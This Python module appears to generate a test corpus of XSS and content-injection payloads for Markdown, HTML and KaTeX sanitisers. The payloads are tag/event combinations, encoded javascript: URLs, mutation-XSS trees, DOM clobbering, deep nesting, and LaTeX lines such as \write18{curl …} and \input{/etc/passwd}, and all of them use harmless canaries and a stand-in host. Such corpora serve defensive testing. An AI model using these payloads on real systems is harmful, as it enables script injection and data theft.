"""Texts that try to run a script, to fetch something from elsewhere, or to be taken for a part of the page.

They are made, always the same: tags × events × ways to write both down, addresses × disguises × places, and those odd
ones that once went through some sanitiser. Written anew after what these have collected:

- the OWASP sheet, https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
- DOMPurify's fixtures, https://github.com/cure53/DOMPurify/blob/main/test/fixtures/expect.mjs, and its advisories up to
  2026 (deep nesting CVE-2024-45801 and CVE-2024-47875, templates CVE-2025-26791, raw text in attributes CVE-2025-15599
  and CVE-2026-0540), https://github.com/cure53/DOMPurify/wiki/Attack-Classes-&-Bypass-History
- mutation XSS, https://research.securitum.com/mutation-xss-via-mathml-mutation-dompurify-2-0-17-bypass/ and
  https://www.sonarsource.com/blog/mxss-the-vulnerability-hiding-in-your-code/
- the events of https://portswigger.net/web-security/cross-site-scripting/cheat-sheet
- KaTeX's advisories (CVE-2024-28243 to -28246, CVE-2025-23207), https://katex.org/docs/security

Number n of them says ``window.pwned=n`` where it is run, and asks ``https://foreign.example/n`` where it is loaded.
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Callable, Iterable, Iterator
from functools import cache
from itertools import cycle, product

FOREIGN = "foreign.example"
# In what follows these stand for the code that is run, and for the address that is asked.
JS, URL = "¤", "§"

Encode = Callable[[str], str]
Template = tuple[str, Encode]


def plain(code: str) -> str:
    return code


def decimal(code: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in code)


def padded(code: str) -> str:
    return "".join(f"&#x{ord(letter):07X};" for letter in code)


def unended(code: str) -> str:
    return "".join(f"&#{ord(letter):07}" for letter in code)


def escaped(code: str) -> str:
    return code.replace("window", "\\u0077\\u{69}ndow")


def quoted(code: str) -> str:
    return f"Function(atob`{b64encode(code.encode()).decode()}`)()"


ENCODINGS: tuple[Encode, ...] = (plain, decimal, padded, unended, escaped, quoted)

TAGS = """<img src=x @>|<svg @>|<svg><g @></g></svg>|<svg><animate attributeName=x dur=1s @></svg>
<svg><set @></svg>|<svg><image href=x @></svg>|<svg><use href=#x @></svg>|<svg><foreignObject><p @></svg>
<svg><a xlink:href=# @>x</a></svg>|<math @>|<math><mi @>x</math>|<math><mtext><img src=x @></math>
<math><maction actiontype=toggle @>x</math>|<video src=x @></video>|<video><source src=x @></video>|<audio src=x @>
<track src=x @>|<body @>|<html @>|<frameset @>|<iframe @></iframe>|<object data=x @></object>|<embed src=x @>
<details open @>x</details>|<input autofocus @>|<input type=image src=x @>|<button autofocus @>x</button>
<select autofocus @><option>x</select>
<select><button><selectedcontent></button><option selected><img src=x @></select>|<textarea autofocus @></textarea>
<form @><input>|<keygen autofocus @>|<marquee @>x</marquee>|<a href=# @>x</a>|<p @>x|<div tabindex=1 autofocus @>x
<style @></style>|<link rel=stylesheet href=x @>|<script src=x @></script>|<table background=x @><td>x</table>
<td @>x|<b @>x</b>|<sub @>x</sub>|<code @>x</code>|<br @>|<x-y @ contenteditable autofocus>x</x-y>
<dialog open @>x</dialog>|<template><img src=x @></template>|<template shadowrootmode=open><img src=x @></template>
<canvas @>|<area href=# @>|<picture><source srcset=x><img src=x @></picture>|<noscript><img src=x @></noscript>
<xmp><img src=x @></xmp>"""

EVENTS = """onerror onload onfocus onfocusin onblur onclick onauxclick onmouseover onmouseenter onpointerover
onpointermove ontoggle onbeforetoggle onbegin onend onrepeat onanimationstart onanimationend ontransitionend
onloadstart oncanplay onplay onscroll onscrollend onwheel onpaste oncopy oninput onchange onsubmit onreset
onselectstart oncontextmenu onkeydown ondragstart ondrop onpageshow onhashchange onpopstate onmessage onresize
onbeforeprint onunhandledrejection onstart onfinish onbounce oncontentvisibilityautostatechange onscrollsnapchange
oncommand onbeforematch onfullscreenchange onslotchange onformdata oninvalid oncuechange onsecuritypolicyviolation
onwebkitanimationstart onbeforexrselect"""

# How an event and its code may be written in a tag; `E` is the event.
ATTRIBUTES = (
    f"E={JS}",
    f'E="{JS}"',
    f"E='{JS}'",
    f"E=`{JS}`",
    f"E = \n {JS}",
    f"/E={JS}/",
    f"\tE\t=\t{JS}\t",
    f"\fE\f=\f{JS}",
    f"\n\nE\n=\n'{JS}'",
    f'x=">" E={JS}',
    f"x='>' E={JS}",
    f"E={JS}//",
    f'"E={JS}',
    f"a=1 E={JS} E=0",
    f"E\0={JS}",
    f"\0E={JS}",
    f"xmlns:E={JS} E={JS}",
    f"is=x E={JS}",
    f'E="&#10;{JS}&#10;"',
    f"id=x/E={JS}",
    f"\u2028E={JS} E={JS}",
    f"style=animation:x E={JS}",
    f"class=lw-page data-x=1 E={JS}",
)

# How a tag may be disguised.
DISGUISES: tuple[Encode, ...] = (
    plain,
    str.swapcase,
    lambda tag: tag.replace(">", "", 1),
    lambda tag: f"<{tag}",
    lambda tag: f"<!-->{tag}-->",
    lambda tag: f"<![CDATA[>{tag}]]>",
    lambda tag: f"</p>{tag}</p>",
    lambda tag: tag.replace("<", "&lt;").replace(">", "&gt;"),
    lambda tag: tag.replace("<", "\\<", 1),
    lambda tag: tag.replace("<", "<\0", 1),
    lambda tag: tag.replace(" ", "/", 1),
    lambda tag: f"<?xml version='1.0'?>{tag}<?x?>",
    lambda tag: f"<b>{tag}</b>",
    lambda tag: f"<scr<script>ipt>{tag}</scr</script>ipt>",
    lambda tag: f"{tag}<!-- x --!>",
    lambda tag: tag.replace("<", "＜").replace(">", "＞"),
    lambda tag: f"<!DOCTYPE x [<!ENTITY x '{tag}'>]>&x;",
    lambda tag: f"\ufeff\u202e{tag}\u2066",
)

SCHEMES = (
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f" \x01javascript:{JS}",
    f"java\tscript:{JS}",
    f"java\nscript:{JS}",
    f"java\rscript\r:{JS}",
    f"javascript\t:{JS}",
    f"\u2028javascript:{JS}",
    f"\u00a0javascript:{JS}",
    f"\ufeffjavascript:{JS}",
    f"\u200bjavascript:{JS}",
    f"java\0script:{JS}",
    f"java&#x0A;script:{JS}",
    f"java&Tab;script&colon;{JS}",
    f"&#106;avascript:{JS}",
    f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{JS}",
    f"&lt;javascript:{JS}",
    f"javascript&#58;{JS}",
    f"%6Aavascript:{JS}",
    f"javascript%3A{JS}",
    f"javascript://%0A{JS}",
    f"javascript:/*--></title></style>*/{JS}",
    f"view-source:javascript:{JS}",
    f"jar:javascript:{JS}",
    f"vbscript:{JS}",
    f"livescript:{JS}",
    f"mocha:{JS}",
    f"about:blank#<script>{JS}</script>",
    f"data:text/html,<script>parent.{JS}</script>",
    f"data:text/html;charset=utf-7,+ADw-script+AD4-{JS}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>",
    f"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9{JS}",
    f"DATA:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{JS}</script>",
    f'data:image/png;base64,x" onerror={JS} x="',
    f"data:image/png;base64,x' onerror={JS} '",
    f"blob:null/{JS}",
    f"filesystem:javascript:{JS}",
    f'mailto:x" onclick={JS} "',
    f'https://example.org" onclick={JS} x="',
    f"https://example.org/' style='animation:x' onanimationstart={JS} '",
    f"https:javascript:{JS}",
    f"ws://{FOREIGN}/{JS}",
    f"feed:javascript:{JS}",
)

# Where Markdown, or HTML in it, takes an address; `U` is the address.
PLACES = (
    "[x](U)",
    "[x](<U>)",
    '[x](U "title")',
    "![x](U)",
    "![x](<U>)",
    "[x][r]\n\n[r]: U",
    "[x][r]\n\n[r]: <U> 'title'",
    "![x][r]\n\n[r]: U",
    "<U>",
    "[![x](U)](U)",
    "<a href=U>x</a>",
    '<a href="U">x</a>',
    "<iframe src='U'></iframe>",
    "<form action='U'><button formaction='U'>x</button></form>",
    "<object data='U'></object>",
    "<embed src='U'>",
    "<svg><a xlink:href='U'><text>x</text></a></svg>",
    "<svg><use href='U#x'/></svg>",
    "<svg><a><animate attributeName=href values='U'/><text>x</text></a></svg>",
    "<math href='U'><mi>x</mi></math>",
    "<math><maction actiontype='statusline#U' xlink:href='U'>x</maction></math>",
    "<meta http-equiv=refresh content='0;url=U'>",
    "<base href='U'><a href=x>x</a>",
    "<link rel=import href='U'>",
    "<img src='U'>",
    "<input type=image src='U'>",
    "<body background='U'>",
    "<table background='U'><td background='U'>x</table>",
    "<blockquote cite='U'>x</blockquote>",
    "<video poster='U' src='U'></video>",
    "$\\href{U}{x}$",
    "$$\n\\url{U}\n$$",
)

# Places of Markdown that take text; `T` is the text.
CONTEXTS = (
    "T",
    "# T",
    "T\n===",
    "- T",
    "1. T\n2. T",
    "- [x] T",
    "> T",
    ">> - T",
    "**T** *T* ~~T~~",
    "`T`",
    "``` T\nT\n```",
    "```html\nT\n```",
    "```T\nx\n```",
    "~~~js T\nT\n~~~",
    "    T",
    "| T | T |\n|---|---|\n| T | `T` |",
    "[T](https://example.org 'T')",
    '[x](https://example.org "T")',
    "![T](x 'T')",
    '![T](data:image/png;base64,iVBORw0KGgo= "T")',
    "[x][T]\n\n[T]: https://example.org 'T'",
    "<https://example.org/T>",
    "https://example.org/T",
    "<div>\nT\n</div>",
    "<!--\nT\n-->\nT",
    "<b>T</b> <sub>T</sub> <kbd>T</kbd>",
    "<pre>\nT\n</pre>",
    "$T$",
    "\\(T\\)",
    "$$\nT\n$$",
    "$\\text{T}$",
    "\\[\nT",
    "[^1]\n\n[^1]: T",
    "x<br>T<br/>",
)

CORE = (
    f"<img src=x onerror={JS}>",
    f"<script>{JS}</script>",
    f"<svg onload={JS}>",
    f"<svg/onload={JS}//",
    f'"><img src=x onerror={JS}>',
    f"'><img src=x onerror={JS}>",
    f'" onmouseover={JS} autofocus onfocus={JS} x="',
    f"`onmouseover={JS}",
    f"</code></pre><img src=x onerror={JS}>",
    f"</span></p></div><img src={URL} onerror={JS}>",
    f"&lt;img src=x onerror={JS}&gt;",
    f"&amp;lt;img src=x onerror={JS}&amp;gt;",
    f"]]><img src=x onerror={JS}>",
    f"--><img src=x onerror={JS}><!--",
    f"</title></style></textarea></script><img src=x onerror={JS}>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    f"{{{{constructor.constructor('{JS}')()}}}}",
    f"${{{JS}}}",
)

# All that loads something.
LOADERS = """<img src=§>|<img srcset="§ 1x, § 2x">|<img src="§" crossorigin>|<img lowsrc=§>|<img dynsrc=§>
<picture><source srcset=§><img>|<image src=§>|<image xlink:href=§>|<svg><image href=§>|<svg><image xlink:href=§>
<svg><use href=§#x>|<svg><feImage href=§>
<svg><filter id=f><feImage xlink:href=§ /></filter><rect filter=url(#f) width=9 height=9>
<svg><script href=§></script>|<svg><style>@import '§';</style>|<svg><text style="font-family:x;fill:url(§#x)">x
<svg><rect fill="url(§#x)"/>|<svg><g mask=url(§)>|<svg><rect clip-path="url('§#x')" width=9 height=9>
<svg><path marker-start=url(§) d=M0,0L9,9>|<svg><animate href=§>|<math><mglyph src=§>
<math><mi mathbackground="url(§)">x|<math style="background:url(§)">x</math>|<script src=§></script>
<script type=module>import '§'</script>|<script type=importmap>{"imports":{"x":"§"}}</script>
<iframe src=§></iframe>|<iframe srcdoc="<img src=§>"></iframe>|<frameset><frame src=§></frameset>
<object data=§></object>|<embed src=§>|<applet codebase=§ code=x>|<object type=text/x-scriptlet data=§></object>
<link rel=stylesheet href=§>|<link rel=preload as=image href=§>|<link rel=prefetch href=§>
<link rel=modulepreload href=§>|<link rel=preconnect href=§>|<link rel=dns-prefetch href=§>|<link rel=icon href=§>
<link rel=manifest href=§>|<link rel=prerender href=§>
<script type=speculationrules>{"prefetch":[{"urls":["§"]}]}</script>|<meta http-equiv=refresh content="0;url=§">
<meta http-equiv=Link content="<§>; rel=preload">
<meta http-equiv=Content-Security-Policy content="default-src *; report-uri §">|<base href=§ ><img src=x>
<video src=§></video>|<video poster=§></video>|<video><source src=§></video>|<audio src=§ autoplay></audio>
<video><track default src=§></video>|<input type=image src=§>|<body background=§>|<table background=§>
<td background=§>|<tr background=§>|<bgsound src=§>|<isindex action=§>|<form action=§ ><input autofocus></form>
<a ping=§ href=#>x</a>|<a href=§ target=_self>x</a>|<q cite=§>x</q>|<del cite=§>x</del>|<menuitem icon=§>
<layer src=§>|<xml src=§>|<html manifest=§>|<portal src=§></portal>|<fencedframe src=§>
<div style="background:url(§)">x</div>|<p style="background-image:image-set('§' 1x)">x
<b style=list-style:url(§)>x</b>|<sub style="border-image:url(§)">x</sub>|<span style="cursor:url(§),auto">x</span>
<div style="content:url(§)">x|<div style="behavior:url(§)">x|<div style="-moz-binding:url(§#x)">x
<div style="background:\\75\\72\\6c(§)">x|<div style="background:u\\rl('§')">x|<div style="mask:url(§)">x
<div style="--x:url(§);background:var(--x)">x|<div style="filter:url(§#x)">x|<div style="shape-outside:url(§)">x
<div style="offset-path:url(§)">x|<style>@import url(§);</style>
<style>@font-face{font-family:x;src:url(§)}*{font-family:x}</style>|<style>*{background:url(§)}</style>
<style>@import'§'layer(x);</style>|<style>@namespace url(§);</style>|<style>x{}*{content:url('§')}</style>
<style><!--*{background:url(§)}--></style>|<style>input[value^=a]{background:url(§)}</style>
<b><style>@keyframes x{from{background:url(§)}}*{animation:x}</style></b>|![x](§)|![x](§#x)
![x](//foreign.example/protocol)|![x](\\\\foreign.example\\backslash)|![x](https:/foreign.example/one)
![x](https:foreign.example/none)|![x](/\\foreign.example/x)|![x](///foreign.example/x)
![x](http:\\\\foreign.example)|[![x](§)](§)|![x](data:image/png,§)|![x](file:///etc/passwd)
![x](ftp://foreign.example/x)|![](§ "title")
![x](data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg><image href=§ /></svg>)"""

# What once went through: trees that are another tree when they are written down and read again.
MUTATIONS = (
    """<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=¤&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=¤">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=¤>
<math><mtext></p><style><img src=x onerror=¤></style></mtext></math>
<svg></p><style><a id="</style><img src=1 onerror=¤>">
<svg><p><style><g title="</style><img src=x onerror=¤>">
<svg><foreignobject><p><style><p title="</style><iframe onload=¤<!--"></style>
<svg><desc><style><a title="</style><img src onerror=¤>">
<svg><title><style><img title="</style><img src onerror=¤>">
<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=¤>">
<math><annotation-xml encoding=application/xhtml+xml><p><style><img src=x onerror=¤></style>
<math><mi><style><!--</style><img src=x onerror=¤>--></style></mi></math>
<math><mi//xlink:href="data:x,<script>¤</script>">
<noscript><p title='</noscript><img src=x onerror=¤>'></noscript>
<b><noscript><!-- </noscript><img src=x onerror=¤ --></noscript>
<b><noscript><a alt="</noscript><img src=x onerror=¤>"></noscript>
<listing>&lt;img onerror="¤;//" src=x&gt;<t t></listing>
<xmp>&lt;img src=x onerror=¤&gt;</xmp>
<noembed><p title="</noembed><img src=x onerror=¤>"></noembed>
<noframes><p title="</noframes><img src=x onerror=¤>"></noframes>
<iframe><p title="</iframe><img src=x onerror=¤>"></iframe>
<b title="</xmp><img src=x onerror=¤>"><xmp>x</xmp></b>
<b title="</textarea><img src=x onerror=¤>">x</b>
<p title="</noscript></title></style></iframe></noembed></noframes></plaintext><img src=x onerror=¤>">x
<plaintext><img src=x onerror=¤>
<textarea>x</textarea><!--</textarea><img src=x onerror=¤>-->
<title><p title="</title><img src=x onerror=¤>">
<style><style/><img src=x onerror=¤>
<b><style><style////><img src=x onerror=¤></style>
<select><noscript></select><img src=x onerror=¤></noscript>
<option><style></option></select><b><img src=x onerror=¤></style></option>
<option><iframe></select><b><script>¤</script>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=¤>">
<select><style><svg></select><img src=x onerror=¤></style>
<select><selectedcontent></selectedcontent><option selected><img src=x onerror=¤></option></select>
<template><style><template><img src=x onerror=¤></style></template></template>
<body><template><s><template><s><img src=x onerror=¤></s></template></s></template>
<div><template shadowrootmode=open><script>¤</script></template></div>
<p><a><table><a><tr><p><img src=x onerror=¤>
<table><tr><td><a><table><form><form><img src=x onerror=¤>
<a><b><a><p></b><table><script>¤</script></table></a>
<form><div></form><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=¤ src>">
<svg><svg><annotation-xml><foreignobject><style><!--</style><p id="--!&gt;&lt;img src=x onerror=¤&gt;">
<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-><img src onerror=¤>">
<svg><style>&lt;img src=x onerror=¤&gt;</style></svg>
<svg><style><![CDATA[</style><img src=x onerror=¤>]]></style></svg>
<svg><script>&#119;indow.pwned=1</script></svg>
<svg><script/href=data:,¤ />
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">¤</handler></svg>
<svg><a><circle r=400 /><animate attributeName="xlink:href" begin=0 from="javascript:¤" to="&"/></a>
<svg><animate href=#x attributeName=onclick to=¤ /><text id=x>x</text></svg>
<svg><set attributeName=innerHTML to="<img src=x onerror=¤>"/></svg>
<svg><discard onbegin=¤>
<svg><metadata><img src=x onerror=¤></metadata></svg>
<?xml-stylesheet type="text/xsl" href="data:,<script>¤</script>"?>
<?img src=x onerror=¤?>
<!--?xml ><img src=x onerror=¤>?-->
<![CDATA[<img src=x onerror=¤>]]>
<!-- --!><img src=x onerror=¤> -->
<!--><img src=x onerror=¤>-->
<!---><img src=x onerror=¤>-->
<!-- <!-- --><img src=x onerror=¤> -->
<!doctype x "<img src=x onerror=¤>">
<comment><img src="</comment><img src=x onerror=¤>">
<!--[if gte IE 4]><script>¤</script><![endif]-->
<img """
    + '"""'
    + """><script>¤</script>">
<img src=x id/=' onerror=¤//'>
<img/src=`x`onerror=¤>
<img src="x` `<script>¤</script>"` `>
<img alt="`><script>¤</script>"src=x:x onerror=0>
<a href="\\x0bjavascript:¤">x</a>
<%<!--'%><script>¤</script -->
<script\\x20type="text/javascript">¤;</script>
<script\\x3Etype="text/javascript">¤;</script>
<script/x>¤</script>
<script ~~~>¤</script ~~~>
</script><script>¤</script>
<SCRIPT SRC=data:,¤></SCRIPT>
<scr\\0ipt>¤</scr\\0ipt>
<isindex type=image src=1 onerror=¤>
<div datafld=b dataformatas=html datasrc=#X></div><xml id=X><a><b>&lt;img src=x onerror=¤&gt;</b></a></xml>
<event-source src="data:,¤" onload=¤>
<t:set attributename="innerHTML" to="&lt;img src=x onerror=¤&gt;">
<div style="width:expression(¤)">x</div>
<style>*{x:expression(¤)}</style>
<style></style\\x3E<img src="about:blank" onerror=¤//></style>
<div style="x:\\0065xpression(¤)">x</div>
<div style="background:url('javascript:¤')">x</div>
<div id="x"><style>#x{background:url(javascript:¤)}</style></div>
<b/alt="1"onmouseover=¤ style="font-size:999px">x</b>
<video><style></video><img src=x onerror=¤></style>
<object><param name=src value=javascript:¤></object>
<embed code=x allowscriptaccess=always src=data:text/html,<script>parent.¤</script>>
<x contenteditable autofocus onfocus=¤>x</x>
<input type=hidden oncontentvisibilityautostatechange=¤ style=content-visibility:auto>
<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=¤>x</xss>
<link rel=canonical accesskey=X onclick=¤>
<form id=x></form><button form=x formaction=javascript:¤>x</button>
<form action=javascript:¤><input type=submit></form>
<iframe src=javascript:parent.¤></iframe>
<iframe srcdoc="&lt;script&gt;parent.¤&lt;/script&gt;"></iframe>
<iframe srcdoc=&#60;img&#32;src=x&#32;onerror=parent.¤&#62;></iframe>
<iframe name="<img src=x onerror=¤>" src=about:blank></iframe>
<a href=javascript:¤ target=_self>x</a>
<a href="data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=">x ¤</a>
<a href=x xlink:href=javascript:¤>x</a>
<a href="https://example.org" style="position:fixed;inset:0">x ¤</a>
<area shape=default href=javascript:¤>
<table><td background="javascript:¤">x</table>
<h1 is=x-y slot=x part=x nonce=x onload=¤>x</h1>
<x-y><template shadowroot=open><slot onslotchange=¤></slot></template>x</x-y>
<a href="#" id=x name=y class="lw-page lw-dialog katex jp-Cell" onclick=¤>x</a>
<div hidden=until-found onbeforematch=¤>x</div>
<math><mrow href="javascript:¤"><mi>x</mi></mrow></math>
<math><semantics><annotation encoding="application/x-tex"><img src=x onerror=¤></annotation></semantics></math>
<math><mspace width="1e9em" height="1e9em"/></math><!-- ¤ -->
<meta charset=utf-7>+ADw-script+AD4-¤+ADw-/script+AD4-
<meta http-equiv=set-cookie content="x=<script>¤</script>">
<img src=x onerror&#61;¤>
<img src=x on\0error=¤>
<img src=x one&#114;ror=¤>
<\x00img src=x onerror=¤>
<img\x0bsrc=x\x0bonerror=¤>
<img\x1fsrc=x onerror=¤>
<ımg src=x onerror=¤>
<ſcript>¤</ſcript>
<K onmouseover=¤>x</K>
<a href="javaſcript:¤">x</a>
<svg><ſtyle>@import '§'</ſtyle></svg>
<form id=test></form><button form=test name=nodeName>x</button><a id=location href=§>x</a>
<sub onclick=¤>x</sub><b><img src=x onerror=¤></b>
![x](x"onerror=¤//)"""
)

# Names that stand for something else where they are met in a document, or in an object.
CLOBBERED = (
    "location document body head cookie attributes nodeName nodeType parentNode children childNodes removeChild"
    " setAttribute getAttribute getElementById createElement innerHTML content currentScript defaultView"
    " require define module jupyterapp pwned llmws lw-page __proto__ constructor prototype hasOwnProperty toString"
)
CLOBBERS = (
    f"<img name=N id=N src={URL}>",
    f"<form id=N onmouseover={JS}><input name=N><input name=attributes></form>",
    f"<a id=N></a><a id=N name=N href='javascript:{JS}'>x</a>",
    f"[x][N]\n\n[N]: javascript:{JS}",
    f"```N\n<img src=x onerror={JS}>\n```",
)

FORMULAS = r"""\href{javascript:¤}{x}|\href{java&#10;script:¤}{x}|\href{https://example.org" onclick="¤}{x}
\url{javascript:¤}|\url{§}|\href{data:text/html,<script>¤</script>}{x}|\includegraphics{§}
\includegraphics[height=9em,alt=x" onerror="¤]{§}|\htmlStyle{background:url(§)}{x}|\htmlData{x=1}{¤}
\htmlData{x" onclick="¤=1}{x}|\htmlId{x" onclick="¤}{x}|\htmlId{location}{¤}|\htmlClass{lw-page}{¤}
\htmlClass{x" onmouseover="¤}{x}|\text{<img src=x onerror=¤>}|\text{\u003cscript\u003e¤}
\mathrm{</span><script>¤</script>}|\color{url(§)}x|\color{red;background:url(§)}x|\textcolor{red" onclick="¤}{x}
\colorbox{red;background:url(§)}{x}|\fcolorbox{url(§)}{red}{x}|\unicode{<script>¤</script>}|\char"3C \char"73 ¤
\def\a{\a\a}\a ¤|\def\a#1{#1#1}\a{\a{\a{\a{\a{¤}}}}}|\gdef\x{\x\x}\x ¤|\edef\a{\noexpand\href{javascript:¤}{x}}\a
\let\a\href\a{javascript:¤}{x}|\newcommand{\href}[2]{¤}\href{x}{y}|\renewcommand\text{\url{§}}\text
\rule{1000000em}{1000000em} ¤|\kern{1e9em} ¤|\hspace{99999999em} ¤|\raisebox{9999em}{¤}|\tag{<img src=x onerror=¤>}
\label{x}\ref{javascript:¤}|\begin{CD}A@>{<img src=x onerror=¤>}>>B\end{CD}
\begin{matrix}<img src=x onerror=¤>&\end{matrix}|\verb+<img src=x onerror=¤>+
\operatorname{</annotation><img src=x onerror=¤>}|\mathchoice{¤}{}{}{}|\catcode`<=13 ¤|\@ifnextchar ¤
\require{html}\href{§}{x}|\cssId{x}{¤}|\style{background:url(§)}{x}|\class{lw-page}{¤}
\special{html:<script>¤</script>}|\write18{curl §}|\input{/etc/passwd} ¤|\csname url\endcsname{javascript:¤}
x_{y_{z_{<img src=x onerror=¤>}}}|\overbrace{¤}^{<script>}|\def\hre{}\hre f{javascript:¤}{x}
%0a\href{javascript:¤}{x}|$\href{javascript:¤}{x}$"""

# What is long or deep: past 255 levels some parsers flatten a tree, and others end.
DEPTHS = (
    "<div>" * 600 + f"<img src=x onerror={JS}>",
    "<form><div>" * 300 + f"<math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    "<svg>" * 300 + f"<style><a title='</style><img src=x onerror={JS}>'>",
    "<math><mtext>" * 260 + f"<table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror={JS}&gt;'>",
    "<template>" * 300 + f"<img src=x onerror={JS}>",
    "<b>" * 600 + f"<img src=x onerror={JS}>",
    "<a><p>" * 200 + f"<script>{JS}</script>",
    "> " * 400 + f"<img src=x onerror={JS}>",
    "".join("  " * depth + "- x\n" for depth in range(120)) + f"<img src=x onerror={JS}>",
    "[" * 800 + f"x](javascript:{JS})" + "]" * 800,
    "![" * 400 + f"x]({URL})" * 400,
    "*" * 1500 + f"<img src=x onerror={JS}>",
    "`" * 1500 + f"<img src=x onerror={JS}>",
    "<" * 1500 + f"img src=x onerror={JS}>",
    "&" * 1000 + "lt;" * 500 + f"img src=x onerror={JS}>",
    "$" + "{" * 400 + JS + "}" * 400 + "$",
    "$$\n" + r"\frac{" * 200 + JS + "}{x}" * 200 + "\n$$",
    "|" * 800 + f"\n{'|-' * 800}|\n| <img src=x onerror={JS}>",
    f"[x](<{'a' * 5000}\njavascript:{JS}>)",
    f"<img {'a ' * 2000} src=x onerror={JS}>",
    f"<img {'a=1 ' * 2000} src={URL} onerror={JS}>",
    f"```{'x' * 5000}\n<img src=x onerror={JS}>",
)


def _listed(texts: str) -> list[str]:
    return texts.replace("\n", "|").split("|")


def _tags() -> Iterator[Template]:
    events = cycle(EVENTS.split())
    attributes, disguises, encodings = cycle(ATTRIBUTES), cycle(DISGUISES), cycle(ENCODINGS)
    for tag in _listed(TAGS):
        for _ in range(13):
            written = tag.replace("@", next(attributes).replace("E", next(events)))
            yield next(disguises)(written), next(encodings)


def _addresses() -> Iterator[Template]:
    for number, (scheme, place) in enumerate(product(SCHEMES, PLACES)):
        if number % 3 == 0:
            yield place.replace("U", scheme), plain


def _contexts() -> Iterator[Template]:
    for context, text in product(CONTEXTS, CORE):
        yield context.replace("T", text), plain


def _clobbers() -> Iterator[Template]:
    for name, clobber in product(CLOBBERED.split(), CLOBBERS):
        yield clobber.replace("N", name), plain


def _formulas() -> Iterator[Template]:
    places = cycle(("$F$", "$$\nF\n$$", "\\(F\\)", "\\[\nF\n\\]"))
    for formula in _listed(FORMULAS):
        yield next(places).replace("F", formula), plain


def _templates() -> Iterator[Template]:
    yield from _tags()
    yield from _addresses()
    yield from _contexts()
    yield from _clobbers()
    yield from _formulas()
    for text in (*_listed(LOADERS), *MUTATIONS.split("\n"), *DEPTHS):
        yield text, plain


@cache
def payloads() -> tuple[str, ...]:
    """All of them, in which no two say the same."""
    distinct = {_filled(template, 0): template for template in _templates() if template[0]}
    return tuple(_filled(template, number) for number, template in enumerate(distinct.values(), 1))


def short(most: int = 1_000) -> tuple[str, ...]:
    """Those that are no longer than this, for where little room is."""
    return tuple(one for one in payloads() if len(one) <= most)


def packed(longest: int, texts: Iterable[str] | None = None) -> list[str]:
    """Lines with as many of the texts as there is room for, where a field takes a line of this length."""
    lines: list[str] = []
    for text in short(longest) if texts is None else texts:
        line = " ".join(text.split())
        if lines and len(lines[-1]) + 1 + len(line) <= longest:
            lines[-1] += f" {line}"
        else:
            lines.append(line)
    return lines


def _filled(template: Template, number: int) -> str:
    text, encode = template
    return text.replace(JS, encode(f"window.pwned={number}")).replace(URL, f"https://{FOREIGN}/{number}")
